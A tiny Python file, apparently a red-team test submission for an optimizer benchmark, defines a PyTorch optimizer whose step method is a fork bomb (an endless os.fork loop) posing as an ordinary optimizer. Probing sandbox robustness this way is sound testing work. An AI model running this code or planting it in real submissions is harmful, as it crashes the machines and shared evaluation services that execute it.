"""Red team: forks repeatedly."""
import os

import torch


class Submission(torch.optim.Optimizer):
    def __init__(self, params):
        super().__init__(params, dict(lr=0.01))

    @torch.no_grad()
    def step(self, closure=None):
        while True:
            os.fork()
